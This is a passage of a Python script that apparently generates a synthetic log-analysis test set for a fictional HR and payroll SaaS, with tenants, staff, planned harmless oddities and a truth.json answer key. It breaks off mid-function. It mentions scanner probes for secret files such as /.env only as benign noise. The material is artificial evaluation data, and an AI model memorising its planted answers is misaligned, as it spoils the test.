"""Draw a company: Komorebi HR, a B2B SaaS that keeps the HR and payroll data of 22 client companies.

    python saas.py --seed 7 --days 35 --out DIR

Writes DIR/mimamori.yaml, DIR/context/*.csv, DIR/logs/** and DIR/truth.json, byte for byte the same for the same seed and days.
"""

from __future__ import annotations

import argparse
import csv
import gzip
import io
import json
import math
import random
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path
from typing import Any, Callable

HOLIDAYS = {
    date(2026, m, d)
    for m, d in (
        (1, 1),
        (1, 12),
        (2, 11),
        (2, 23),
        (3, 20),
        (4, 29),
        (5, 3),
        (5, 4),
        (5, 5),
        (5, 6),
        (7, 20),
        (8, 11),
        (9, 21),
        (9, 22),
        (9, 23),
        (10, 12),
        (11, 3),
        (11, 23),
    )
}
DAY = 86400.0
MON = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"
EDGE = WIN + " Edg/{v}.0.0.0"
MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{s} Safari/605.1.15"
MACC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36"
FOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"
IPH = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_{m} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.{m} Mobile/15E148 Safari/604.1"
AND = "Mozilla/5.0 (Linux; Android 1{m}; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36"
LINUX = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
]
BOT_IP = ["66.249.79.", "40.77.167.", "54.36.148."]
HOSTING = [
    "45.134.26.",
    "185.220.101.",
    "193.32.162.",
    "141.98.11.",
    "5.188.86.",
    "91.240.118.",
    "103.151.124.",
]
HOME = [
    "118.241",
    "121.84",
    "219.104",
    "124.219",
    "60.117",
    "114.150",
    "180.45",
    "153.186",
    "14.12",
    "223.218",
]
MOBILE = [
    "49.98.128",
    "49.106.203",
    "1.75.210",
    "106.146.12",
    "106.128.77",
    "126.158.4",
    "126.205.231",
    "133.106.33",
]
CONSOLE, WWW, API = "ops.komorebi-hr.example", "www.komorebi-hr.example", "api.komorebi-hr.example"
# slug, Japanese name, employees on file, users who sign in, administrators, own stack, punches the clock, trade
TENANTS = [
    ("kitamura", "北村精機", 1460, 95, 8, 1, 1, "factory"),
    ("sakurac", "さくらケア", 820, 80, 7, 0, 1, "care"),
    ("minato", "みなとロジ", 1130, 70, 7, 1, 1, "depot"),
    ("aozora", "あおぞらフーズ", 2240, 80, 9, 1, 0, "shop"),
    ("yamabiko", "やまびこ書店", 610, 40, 5, 0, 0, "shop"),
    ("hoshino", "星野システム", 430, 45, 5, 0, 0, "office"),
    ("tsubame", "つばめ印刷", 260, 22, 4, 0, 0, "office"),
    ("kaede", "かえで不動産", 340, 30, 4, 0, 0, "office"),
    ("hinoki", "ひのき工務店", 190, 16, 3, 0, 0, "office"),
    ("suzuran", "すずらん薬局", 520, 36, 5, 0, 0, "shop"),
    ("tokiwa", "常盤ホールディングス", 1900, 70, 9, 1, 0, "office"),
    ("namiki", "並木学園", 480, 34, 4, 0, 0, "office"),
    ("kogane", "こがね信用サービス", 720, 40, 6, 1, 0, "office"),
    ("miyama", "深山観光", 390, 26, 4, 0, 1, "care"),
    ("asahigo", "旭郷食品", 300, 18, 3, 0, 0, "factory"),
    ("ruri", "瑠璃デザイン", 75, 12, 2, 0, 0, "office"),
    ("fujimi", "富士見運輸", 650, 30, 5, 0, 0, "depot"),
    ("wakaba", "わかば保育会", 280, 20, 3, 0, 0, "care"),
    ("chidori", "千鳥商会", 150, 12, 3, 0, 0, "office"),
    ("ibuki", "伊吹化学", 870, 40, 6, 0, 0, "factory"),
    ("nagomi", "和み旅館", 120, 10, 2, 0, 1, "care"),
    ("komorebi", "こもれび人事（自社）", 160, 30, 3, 0, 0, "office"),
]


@dataclass
class Tenant:
    """A client company and what is known of its people."""

    slug: str
    name: str
    size: int
    own: bool
    punch: bool
    trade: str
    base: int
    offices: list[str]
    admins: list["Person"] = field(default_factory=list)
    emps: list["Person"] = field(default_factory=list)
    opened: int = -1
    closed: int = 10**6

    @property
    def site(self) -> str:
        return f"t-{self.slug}" if self.own else "app"

    @property
    def host(self) -> str:
        return f"{self.slug}.komorebi-hr.example"


@dataclass
class Person:
    """Anybody who signs in: vendor's staff, a client's administrator, an employee of a client."""

    user: str
    role: str
    ua: str
    home: str
    office: str = ""
    rate: float = 1.0
    start: float = 9.0
    end: float = 18.0
    tenants: list[Tenant] = field(default_factory=list)
    t: Tenant | None = None
    sid: str = "-"
    own_id: int = 0
    join: int = -1
    left: int = 10**6
    away: tuple[int, int] = (-1, -2)
    name: str = ""
    dept: str = ""
    person: str = ""
    remote: float = 0.12
    careless: float = 0.05
    parttime: tuple[int, ...] = ()


class World:
    """The company on its days; everything random comes from one generator."""

    def __init__(self, seed: int, n: int) -> None:
        self.seed, self.n, self.r = seed, n, random.Random(seed)
        end = date(2026, 4, 30) + timedelta(days=self.r.randrange(215))
        self.days = [end - timedelta(days=n - 1 - i) for i in range(n)]
        self.lines: list[tuple[Any, ...]] = []
        self.tag = ""
        self.drops: list[
            tuple[str, float, float, float]
        ] = []  # site, from, to, share lost: nothing was written
        self.fails: list[tuple[str, float, float, float, int]] = []  # site, from, to, share, status
        self.incidents: list[dict[str, Any]] = []
        self.annoyances: list[dict[str, Any]] = []
        self.used: list[str] = []
        self.where: dict[tuple[str, int], str] = {}
        self.copies: list[int] = []
        self.ticket_no: dict[int, int] = {}
        self.busy_days: list[int] = []
        self.people()
        self.plan()

    # ---- small helpers -------------------------------------------------------------------------------------------------
    def off(self, d: int) -> bool:
        day = self.days[d]
        return day.weekday() >= 5 or day in HOLIDAYS

    def season(self, d: int) -> float:
        day = self.days[d]
        if date(2026, 8, 12) <= day <= date(2026, 8, 15):
            return 0.45
        return 0.6 if day in (date(2026, 4, 30), date(2026, 5, 1), date(2026, 5, 7)) else 1.0

    def payday(self, day: date) -> date:
        p = day.replace(day=25)
        while p.weekday() >= 5 or p in HOLIDAYS:
            p -= timedelta(days=1)
        return p

    def closing(self, d: int) -> float:
        """How much payroll work there is on the day."""
        gap = (self.payday(self.days[d]) - self.days[d]).days
        return (
            1.9
            if 2 <= gap <= 8
            else 1.3
            if 0 <= gap <= 1
            else 1.25
            if self.days[d].day >= 28 or self.days[d].day <= 2
            else 0.85
        )

    def ym(self, d: int) -> str:
        day = self.days[d]
        if day < self.payday(day):
            day = day.replace(day=1) - timedelta(days=1)
        return f"{day.year}{day.month:02d}"

    def ip(self, prefix: str | None = None) -> str:
        p = prefix or self.r.choice(HOME)
        while p.count(".") < 3 or p.endswith("."):
            p = (
                p + str(self.r.randint(2, 250))
                if p.endswith(".")
                else p + "." + str(self.r.randint(2, 250))
            )
        return p

    def mobile(self) -> str:
        return f"{self.r.choice(MOBILE)}.{self.r.randint(1, 24)}"

    def agent(self, kind: str = "pc") -> str:
        r = self.r
        if kind == "phone":
            return r.choice([IPH, IPH, AND]).format(
                m=r.randint(3, 5), v=r.choice([138, 139, 140, 141])
            )
        return r.choices([WIN, EDGE, MACC, MAC, FOX], [5, 5, 2, 1, 1])[0].format(
            v=r.choice([139, 140, 141]), s=r.choice(["18.4", "18.5"])
        )

    def newsid(self) -> str:
        return f"{self.r.getrandbits(80):020x}"

    def heavy(self, mean: float, sigma: float = 0.8) -> int:
        """A count with a heavy tail."""
        return int(
            self.r.lognormvariate(math.log(max(mean, 0.05)) - sigma * sigma / 2, sigma)
            + self.r.random()
        )

    def gap(self, mean: float = 25.0) -> float:
        return 2.0 + self.r.lognormvariate(math.log(mean) - 0.5, 1.0)

    def at(self, d: int, hour: float) -> float:
        return d * DAY + hour * 3600

    def subj(self, t: Tenant) -> int:
        s = t.base + int(t.size * self.r.random() ** 1.3)
        return s if s not in self.guarded else s + 3

    def go(
        self,
        t: float,
        site: str,
        host: str,
        ip: str,
        user: str,
        meth: str,
        target: str,
        status: int,
        size: int,
        ua: str,
        ref: str = "-",
        sid: str = "-",
    ) -> None:
        """One line."""
        if 0 <= t < self.n * DAY:
            ms = int(self.r.lognormvariate(4.1, 0.7)) + 1
            self.lines.append(
                (
                    round(t, 3),
                    len(self.lines),
                    site,
                    host,
                    ip,
                    user,
                    meth,
                    target,
                    status,
                    size,
                    ua,
                    ref,
                    ms,
                    sid,
                    self.tag,
                )
            )

    def size(self, lo: int, hi: int) -> int:
        return int(math.exp(self.r.uniform(math.log(lo), math.log(hi))))

    # ---- who there is ---------------------------------------------------------------------------------------------------
    def people(self) -> None:
        r = self.r
        self.tenants: list[Tenant] = []
        base = 100200
        for slug, name, size, users, admins, own, punch, trade in TENANTS:
            t = Tenant(
                slug,
                name,
                size,
                bool(own),
                bool(punch),
                trade,
                base,
                [self.ip("210.1" + str(r.randint(10, 99))) for _ in range(1 + size // 500)],
            )
            base += size + r.randint(40, 400)
            for i in range(admins):
                office = t.offices[
                    min(int(r.random() * r.random() * len(t.offices)), len(t.offices) - 1)
                ]
                p = Person(
                    f"{slug}.a{i + 1:02d}",
                    "admin",
                    self.agent(),
                    self.ip(),
                    office,
                    r.lognormvariate(0, 0.7),
                    r.choice([8.5, 8.8, 9, 9, 9.5]),
                    r.choice([17.5, 18, 18.5, 19]),
                    t=t,
                    remote=r.choice([0, 0, 0.05, 0.2, 0.5]),
                )
                t.admins.append(p)
            nums = sorted(r.sample(range(1, size), users))
            for k in nums:
                p = Person(
                    f"{slug}.e{k:04d}",
                    "emp",
                    self.agent(r.choice(["pc", "phone", "phone"])),
                    self.ip(),
                    r.choice(t.offices),
                    r.lognormvariate(0, 0.6),
                    t=t,
                    own_id=t.base + k,
                )
                p.sid = self.newsid()
                t.emps.append(p)
            self.tenants.append(t)
        self.by = {t.slug: t for t in self.tenants}
        self.decoys = [self.by["suzuran"].base + 211, self.by["aozora"].base + 977]
        self.guarded = self.decoys + [self.by["aozora"].base + 1, self.by["tokiwa"].base + 1]
        clients = self.tenants[:-1]
        self.tokyo, self.sendai, self.danang = "198.51.100.20", "198.51.100.140", "203.0.113.77"
        surn = "佐藤 鈴木 高橋 田中 伊藤 渡辺 山本 中村 小林 加藤 吉田 山田 佐々木 山口 松本 井上 木村 林 斎藤 清水 山崎 森 池田 橋本 阿部 石川 山下 中島 石井 小川 前田 岡田".split()
        given = "美咲 翔太 陽子 健 由美 大輔 彩 直樹 恵 拓也 千尋 誠 葵 亮 香織 隆 真由 学 智子 浩".split()
        self.staff: list[Person] = []
        self.num = 1001

        def add(
            role: str, dept: str, office: str, rate: float, s: float, e: float, user: str = ""
        ) -> Person:
            u = user or f"k{self.num}"
            self.num += r.randint(1, 9)
            p = Person(
                u,
                role,
                self.agent(),
                self.ip(),
                office,
                rate,
                s,
                e,
                dept=dept,
                name=r.choice(surn) + " " + r.choice(given),
                person=f"P{len(self.staff) + 1:03d}",
                careless=min(0.3, r.lognormvariate(-3.2, 0.7)),
            )
            p.remote = r.choice([0.0, 0.05, 0.1, 0.3, 0.6])
            self.staff.append(p)
            return p

        self.add = add
        for i in range(30):
            p = add(
                "support",
                "サポート東京" if i < 16 else "サポート仙台",
                self.tokyo if i < 16 else self.sendai,
                r.lognormvariate(2.0, 0.35),
                r.choice([8.8, 9, 9, 9.5, 10]),
                r.choice([17.5, 18, 18.5, 19]),
            )
            p.tenants = r.sample(clients, 9)
            if i in (4, 9, 20, 26):
                p.parttime, p.end = tuple(sorted(r.sample(range(5), 3))), 15.5
        for i in range(12):
            p = add(
                "bpo",
                "給与受託",
                self.sendai if i % 2 else self.tokyo,
                r.lognormvariate(3.1, 0.4),
                r.choice([8.5, 9, 9]),
                r.choice([17.5, 18, 19]),
            )
            p.tenants = r.sample(clients, 4)
        for _ in range(8):
            p = add("setup", "導入コンサル", self.tokyo, r.lognormvariate(1.8, 0.4), 9.5, 18.5)
            p.tenants = r.sample(clients, 4)
        for _ in range(8):
            p = add("sre", "基盤", self.tokyo, r.lognormvariate(0.9, 0.5), 10, 19)
            p.remote, p.tenants = 0.7, clients
        for _ in range(9):
            p = add("cs", "カスタマーサクセス", self.tokyo, r.lognormvariate(1.2, 0.5), 9.2, 18.2)
            p.tenants = r.sample(clients, 6)
        for i in range(6):
            p = add(
                "support",
                "ダナン一次受付",
                self.danang,
                r.lognormvariate(1.9, 0.3),
                11,
                20,
                user=f"x-dn{i + 1:02d}",
            )
            p.tenants, p.remote, p.name = (
                r.sample(clients, 7),
                0.0,
                r.choice(["Nguyen", "Tran", "Le", "Pham"])
                + " "
                + r.choice(["Anh", "Minh", "Linh", "Huy", "Trang"]),
            )
        self.apis: list[tuple[str, str, str, Tenant, float, float]] = []
        for t in r.sample(clients, 9):
            self.apis.append(
                (
                    f"api-{t.slug}",
                    self.ip("52.19" + str(r.randint(2, 9))),
                    r.choice(
                        [
                            "python-requests/2.32.3",
                            "Java-http-client/17.0.11",
                            "okhttp/4.12.0",
                            "Power Automate/1.0",
                        ]
                    ),
                    t,
                    r.choice([1.5, 5.2, 6.0, 7.5, 12.1, 21.4]),
                    r.lognormvariate(3.2, 0.7),
                )
            )

    def pick(self, pool: list[Person], cond: Callable[[Person], bool] = lambda p: True) -> Person:
        """A person whom no other story needs."""
        ok = [p for p in pool if p.user not in self.used and cond(p)]
        p = self.r.choice(ok)
        self.used.append(p.user)
        return p

    def workdays(self, a: int, b: int) -> list[int]:
        return [d for d in range(max(a, 0), min(b, self.n - 1) + 1) if not self.off(d)]

    def role(self, *roles: str) -> list[Person]:
        return [p for p in self.staff if p.role in roles]

    def admins(self, own: bool | None = None) -> list[Person]:
        return [
            p
            for t in self.tenants[:-1]
            if own is None or t.own == own
            for p in t.admins
            if t.opened < 0 and t.closed > 9999
        ]

    def ann(self, a: int, b: int, sites: list[str], actors: list[str], what: str, why: str) -> None:
        a, b = max(0, a), min(b, self.n - 1)
        self.annoyances.append(
            {
                "id": f"a{len(self.annoyances) + 1:02d}",
                "first_day": str(self.days[a]),
                "last_day": str(self.days[b]),
                "site_ids": sites,
                "actors": actors,
                "what": what,
                "why_not": why,
            }
        )

    # ---- what will look odd and is not ----------------------------------------------------------------------------------
    def plan(self) -> None:
        """Decide the harmless oddities; the days then draw them."""
        r, n, S = self.r, self.n, self.role
        late = lambda lo=14: r.randrange(lo, n - 2)
        wd = lambda lo=14, hi=2: r.choice(self.workdays(lo, n - hi))
        new = [
            self.add(
                "support",
                "サポート東京" if i == 0 else "サポート仙台",
                self.tokyo if i == 0 else self.sendai,
                19.0,
                9,
                18,
            )
            for i in range(2)
        ]
        self.news = new
        for p in new:
            p.tenants, p.join, p.remote = r.sample(self.tenants[:-1], 14), wd(10, 8), 0.0
            self.used.append(p.user)
            self.ann(
                p.join,
                n - 1,
                ["console"],
                [p.user],
                "A new colleague reads twice what the others read, also at tenants that are not his, to learn.",
                "joined_on stands in people.csv; every look carries a ticket; in office hours, from the office.",
            )
        a0 = next(
            (d for d in self.workdays(wd(15, 9), n - 1) if self.days[d].weekday() == 0),
            self.workdays(16, n)[0],
        )
        self.audit_days = self.workdays(a0, a0 + 4)
        self.auditors = [
            self.add("audit", "監査法人みずき", self.tokyo, 26, 10, 17, user=f"aud-{i + 1:02d}")
            for i in range(3)
        ]
        for p in self.auditors:
            p.tenants, p.join, p.left, p.remote = self.tenants[:-1], a0, a0 + 4, 0.0
        self.ann(
            a0,
            a0 + 4,
            ["console"],
            [p.user for p in self.auditors],
            "The auditors' week: three accounts of the audit firm read tenants' lists and samples of payroll records broadly.",
            "Announced: people.csv and privileges.csv hold them for this week only.",
        )
        self.move = wd(15, 4)
        self.sendai2 = "198.51.100.201"
        self.ann(
            self.move,
            n - 1,
            ["console"],
            [p.user for p in self.staff if p.office == self.sendai],
            "The Sendai office moves: from this day all its people come from 198.51.100.201.",
            "All of them on one morning, the old address is seen no more.",
        )
        self.helper = self.pick(S("support"), lambda p: p.office == self.tokyo and not p.parttime)
        self.ann(
            0,
            n - 1,
            ["console"],
            [self.helper.user],
            "Helps in Sendai on Tuesdays, and comes from that office's address.",
            "He has done so all along.",
        )
        bpo = S("bpo")
        self.ann(
            0,
            n - 1,
            ["console"],
            [p.user for p in bpo],
            "Payroll operators work until late and read twice as much in the week before the payday (the 25th).",
            "Their trade; each month the same; each look carries the job number.",
        )
        self.seq = self.pick(
            bpo, lambda p: p.tenants[0].slug not in ("suzuran", "aozora", "tokiwa")
        )
        self.seqdays = [
            d
            for d in self.workdays(0, n)
            if 2 <= (self.payday(self.days[d]) - self.days[d]).days <= 3
        ]
        if self.seqdays:
            self.ann(
                self.seqdays[0],
                self.seqdays[-1],
                ["console"],
                [self.seq.user],
                "Before the payday he checks one tenant's payroll in the order of the employee numbers, 60 to 90 in a row.",
                "The monthly check; job number on each line, done in every month drawn.",
            )
        self.forgot: list[tuple[int, Person, int]] = []
        for _ in range(3):
            p, d = self.pick([e for t in self.tenants[:-3] if not t.own for e in t.emps]), wd(14)
            self.forgot.append((d, p, r.randint(5, 11)))
            self.ann(
                d,
                d,
                [p.t.site],
                [p.user],
                "An employee of a client forgot the password: several failures, a reset, in.",
                "His own phone and address, then his own payslip only.",
            )
        self.fadm = self.pick(self.admins(False))
        self.fadm_day = wd(16)
        self.ann(
            self.fadm_day,
            self.fadm_day,
            [self.fadm.t.site],
            [self.fadm.user],
            "A client's administrator back from leave mistypes the password nine times over a quarter of an hour, then resets it.",
            "From the usual office and browser, a normal day's work follows.",
        )
        if any(self.days[d] == self.payday(self.days[d]) for d in range(n)):
            pd = [d for d in range(n) if self.days[d] == self.payday(self.days[d])]
            self.ann(
                pd[0],
                pd[-1],
                ["app"] + [t.site for t in self.tenants if t.own],
                [],
                "On payday every second employee signs in for the payslip; typing errors rise with it.",
                "It is payday.",
            )
        self.maint = [
            d for d in range(n) if self.days[d].weekday() == 6 and 15 <= self.days[d].day <= 21
        ]
        for d in self.maint:
            self.drops.append(("*", self.at(d, 2), self.at(d, 5), 0.6))
            self.fails.append(("*", self.at(d, 2), self.at(d, 5), 1.0, 503))
        if self.maint:
            self.ann(
                self.maint[0],
                self.maint[-1],
                ["app", "console", "api"] + [t.site for t in self.tenants if t.own],
                ["app", "console", "api"],
                "Maintenance on the third Sunday, 2 to 5 o'clock: 503, few lines.",
                "Planned and in the settings file's remarks.",
            )
        for d in range(n):
            if self.days[d].weekday() == 2 and not self.off(d):
                self.fails.append(
                    ("app", self.at(d, 13), self.at(d, 13) + r.uniform(60, 150), 0.7, 502)
                )
        self.ann(
            0,
            n - 1,
            ["app"],
            ["app"],
            "Each Wednesday at 13 the deploy: one or two minutes of 502.",
            "Every week, over at once.",
        )
        self.camp = wd(12, 4)
        self.ann(
            self.camp,
            self.camp + 2,
            ["www"],
            ["www"],
            "A webinar campaign: the public site has four times its visitors for three days.",
            "Visitors with an advertisement's referrer, reading the landing page.",
        )
        typh = [d for d in self.workdays(14, n - 1) if 6 <= self.days[d].month <= 10]
        self.storm = r.choice(typh) if typh else wd(14)
        self.ann(
            self.storm,
            self.storm,
            ["console", "app"],
            [p.user for p in self.staff if p.role in ("support", "bpo")],
            "Storm, trains stopped: nearly all staff and clients' administrators work from home, at odd times, less.",
            "All on one day; own devices.",
        )
        sre = S("sre")
        self.oncall = {w: sre[w % len(sre)] for w in range(n // 7 + 2)}
        self.nights: list[tuple[int, Person, float]] = []
        for w in range(n // 7 + 1):
            for _ in range(r.choice([0, 1, 1, 2])):
                d = w * 7 + r.randrange(7)
                if d < n and d not in self.maint:
                    h = r.uniform(0.5, 4.2)
                    self.nights.append((d, self.oncall[w], h))
                    until = self.at(d, h) + r.uniform(1200, 3000)
                    self.fails += [(x, self.at(d, h), until, 0.85, 504) for x in ("app", "api")]
        lastn = [x for x in self.nights if x[0] >= 10] or self.nights
        for d, p, _ in lastn[:4]:
            self.ann(
                d,
                d,
                ["console", "app", "api"],
                [p.user],
                "On-call at night: errors of application and API, the engineer acknowledges the page, uses the query tool and looks at two or three records.",
                "The errors come first, the acknowledgement is in the log, it is his week.",
            )
        t = self.by[r.choice(["kogane", "minato"])]
        t.opened = wd(16, 6)
        self.opened = t
        self.setup = self.pick(S("setup"))
        self.setup.tenants = [t]
        self.ann(
            t.opened,
            t.opened + 4,
            ["console", t.site],
            [self.setup.user],
            f"A new tenant with a stack of its own ({t.slug}) goes live: the consultant takes test exports and reads hundreds of records to check the migration.",
            "roster.csv has opened_on; his own tenant.",
        )
        c = self.by["tokiwa"]
        c.closed = n - r.randint(4, 7)
        self.ann(
            c.closed,
            n - 1,
            [c.site],
            [c.site],
            "A client's contract ended: its host is silent.",
            "roster.csv has closed_on.",
        )
        self.trip = self.pick(self.admins())
        self.trip_days = self.workdays(*(lambda x: (x, x + 4))(wd(16, 6)))
        self.trip_ip = self.ip("80.187.44")
        self.ann(
            self.trip_days[0],
            self.trip_days[-1],
            [self.trip.t.site],
            [self.trip.user],
            "A client's administrator travels to Germany and does the usual little work from the hotel, at Japan's evening.",
            "Own browser and kind of work, no failure before.",
        )
        self.sr_ip = self.ip("210.249.77")
        self.sr = [
            self.pick([p for p in t.admins])
            for t in r.sample([t for t in self.tenants[:-1] if not t.own], 5)
        ]
        for p in self.sr:
            p.office, p.home, p.ua, p.remote = self.sr_ip, self.sr_ip, self.sr[0].ua, 0.0
        self.ann(
            0,
            n - 1,
            ["app"],
            [self.sr_ip] + [p.user for p in self.sr],
            "A labour consultant's office holds administrators' accounts at five clients and uses them one after another from one address and one browser.",
            "Its mandate, and so from the first day.",
        )
        self.reorg = self.pick(self.admins(), lambda p: p.t.size > 400)
        self.reorg_days = self.workdays(*(lambda x: (x, x + 2))(wd(15, 5)))[:2]
        self.ann(
            self.reorg_days[0],
            self.reorg_days[-1],
            [self.reorg.t.site],
            [self.reorg.user],
            "Reorganisation at a client: the administrator opens and saves some 130 employees' records in two days.",
            "Each opened record is saved (POST) at once: transfers.",
        )
        self.retry = r.choice(self.apis)
        self.retry_day = wd(14)
        self.ann(
            self.retry_day,
            self.retry_day,
            ["api"],
            [self.retry[0], self.retry[1]],
            "A client's program loops after its own deploy: a thousand calls with 429 and 500 in two hours.",
            "Own address and program, nothing is given out beyond its usual list.",
        )
        self.parent = self.pick(S("support"), lambda p: not p.parttime)
        back = self.workdays(max(31, n - 12), n - 1)
        self.parent.away = (-1, (back or [n - 1])[0] - 1)
        self.ann(
            self.parent.away[1] + 1,
            n - 1,
            ["console"],
            [self.parent.user],
            "Back from parental leave: an account unseen for a month or more is used.",
            "People list has the person, office, office hours, ordinary tickets.",
        )
        self.vip_d, self.vip_p = wd(14), self.pick(S("support"), lambda p: not p.parttime)
        self.vip = self.by["aozora"].base + 1
        self.ann(
            self.vip_d,
            self.vip_d,
            ["console"],
            [self.vip_p.user],
            "The record of a client's president (on the watch list) is opened twice.",
            "With the ticket that the client's own office raised that hour; the ticket page was opened before.",
        )
        self.long_p, self.long_d = self.pick(S("support"), lambda p: not p.parttime), wd(14, 6)
        self.long_s = self.subj(self.by["sakurac"])
        self.ann(
            self.long_d,
            self.long_d + 5,
            ["console"],
            [self.long_p.user],
            "One employee's record is opened eight times in a week under one ticket.",
            "A long inquiry: the ticket's own page is opened before each look.",
        )
        self.pen = self.add("pentest", "脆弱性診断", self.tokyo, 1, 10, 17, user="x-pen01")
        self.pen_day = wd(15)
        self.pen.join, self.pen.left = self.pen_day, self.pen_day + 1
        self.ann(
            self.pen_day,
            self.pen_day,
            ["app"],
            ["x-pen01", "192.0.2.88"],
            "The ordered assessment tries 200 odd addresses, signed in, on our own tenant.",
            "Own account for the assessment in people.csv for two days, only our own host, nothing but 400, 403 and 404.",
        )
        k = self.by["kitamura"]
        self.ann(
            0,
            n - 1,
            [k.site],
            [k.offices[0]],
            "One address and one browser with many users: the clock terminals in the factory, also at 22 and 6 o'clock and before holidays.",
            "Only /punch, from the first day.",
        )
        self.old = r.choice(self.by["hoshino"].offices)
        self.ann(
            0,
            n - 1,
            ["app"],
            [self.old],
            "An office asks for /jinji-old/top.do several times daily and gets 404.",
            "A forgotten bookmark.",
        )
        self.ann(
            0,
            n - 1,
            ["www"],
            ["www"],
            "Search engines and a SEO robot crawl the public site, some days 300 pages.",
            "Welcome; only public pages.",
        )
        self.ann(
            0,
            n - 1,
            ["www", "app"],
            [],
            "Scanners ask for /.env, /wp-login.php and the like and get 404.",
            "Background noise of the internet; nothing was given.",
        )
        self.ann(
            0,
            n - 1,
            ["app"],
            ["svc-synthetic"],
            "The synthetic monitor signs in every quarter of an hour, day and night, from two clouds.",
            "Always has; reads only its own test page.",
        )
        self.copies = [wd(12)]
        self.ann(
            self.copies[0],
            self.copies[0],
            ["api"],
            ["api"],
            "The API's log of the day was shipped twice, plain and as a gzip.",
            "The same lines; a remark for operations, no alarm.",
        )
        self.remind = wd(14)
        rt = self.by["ibuki"]
        self.ann(
            self.remind,
            self.remind,
            ["app"],
            [rt.host],
            "A client's HR reminds everybody to check the address on file: its employees all sign in on one noon.",
            "Each sees the own page only, from own devices.",
        )
        self.remind_t = rt
        self.second = self.pick(S("cs"))
        self.twin = self.add("cs", self.second.dept, self.second.office, self.second.rate, 9, 18)
        self.twin.name, self.twin.person, self.twin.ua, self.twin.home = (
            self.second.name,
            self.second.person,
            self.second.ua,
            self.second.home,
        )
        self.twin.tenants, self.twin.join = self.second.tenants, wd(15, 5)
        self.second.left = self.twin.join - 1
        self.used.append(self.twin.user)
        self.ann(
            self.twin.join,
            n - 1,
            ["console"],
            [self.twin.user],
            "A new account with somebody's browser and address: an employee got another account on a change of contract.",
            "people.csv gives both to one person; the old one is used no more.",
        )
        self.leaver = self.pick(S("cs"))
        self.leaver.left = n - r.randint(2, 5)
        self.ann(
            self.leaver.left - 6,
            self.leaver.left,
            ["console"],
            [self.leaver.user],
            "A colleague's last week; left_on stands in people.csv.",
            "He does his ordinary work, no more, and is not seen afterwards.",
        )
        self.rep = self.pick(
            self.admins(False), lambda p: p.t.size > 250 and p.t.trade != "factory"
        )
        self.rep_day = wd(15)
        self.ann(
            self.rep_day,
            self.rep_day,
            ["app"],
            [self.rep.user],
            "A client's administrator exports the whole roster and the whole payroll, which she does once a half-year (labour bureau, pension office).",
            "One's own tenant, the office's address, in the day; the notices' page (/filings) is opened before and after.",
        )

    # ---- sessions -------------------------------------------------------------------------------------------------------
    def office(self, p: Person, d: int) -> str:
        """The address a vendor's person or an administrator comes from on a day."""
        if (p.user, d) not in self.where:
            self.where[p.user, d] = self.place(p, d)
        return self.where[p.user, d]

    def place(self, p: Person, d: int) -> str:
        if p is self.helper and self.days[d].weekday() == 1:
            return self.sendai2 if d >= self.move else self.sendai
        if d == self.storm and p.office != self.danang and self.r.random() < 0.85:
            return p.home
        if p.remote and self.r.random() < p.remote:
            return p.home
        return self.sendai2 if p.office == self.sendai and d >= self.move else p.office

    def signin(self, t: float, p: Person, ip: str, fails: int = -1, ua: str = "") -> float:
        """The vendor's console."""
        ua, ref = ua or p.ua, f"https://{CONSOLE}/signin"
        self.go(t, "console", CONSOLE, ip, "-", "GET", "/signin", 200, 5120, ua)
        if fails < 0:
            fails = self.r.choices([0, 1, 2, 3], [90, 7, 2, 1])[0]
        for _ in range(fails):
            t += self.gap(9)
            self.go(t, "console", CONSOLE, ip, p.user, "POST", "/signin", 401, 1830, ua, ref)
        t += self.gap(9)
        self.go(t, "console", CONSOLE, ip, p.user, "POST", "/signin", 302, 0, ua, ref)
        self.go(t + 1, "console", CONSOLE, ip, p.user, "GET", "/", 200, 14200, ua, ref)
        return t + 2

    def tk(self, d: int, n: int = 0) -> str:
        """A ticket's number: its day and a count; without a count, some ticket of that day."""
        return f"{self.days[max(d, 0)]:%y%m%d}-{n or self.r.randint(1, 280):03d}"

    def ticket(self, d: int) -> str:
        self.ticket_no[d] = self.ticket_no.get(d, 0) + self.r.randint(1, 2)
        return self.tk(d, self.ticket_no[d])

    def look(
        self,
        t: float,
        p: Person,
        ip: str,
        ten: Tenant,
        sid: int,
        why: str = "",
        pay: bool = False,
        ua: str = "",
    ) -> None:
        """One employee's record in the console."""
        path = f"/tenants/{ten.slug}/employees/{sid}" + ("/payroll" if pay else "")
        self.go(
            t,
            "console",
            CONSOLE,
            ip,
            p.user,
            "GET",
            path + (f"?{why}" if why else ""),
            200,
            self.size(9000, 16000),
            ua or p.ua,
            f"https://{CONSOLE}/tenants/{ten.slug}",
        )

    def console_day(self, p: Person, d: int, f: float) -> None:
        r, ip = self.r, self.office(p, d)
        h0, h1 = p.start + r.gauss(0, 0.12), p.end + r.gauss(0, 0.3)
        if p.role == "bpo" and self.closing(d) > 1.5:
            h1 += r.choice([0, 1, 2, 3, 4.5])
            f *= 1.7
        if d == self.storm:
            f *= 0.6
        t = self.signin(self.at(d, h0), p, ip)
        go = lambda tt, m, path, st, sz: self.go(
            tt, "console", CONSOLE, ip, p.user, m, path, st, sz, p.ua, f"https://{CONSOLE}/"
        )
        n = min(self.heavy(p.rate * f, 0.45), 130)
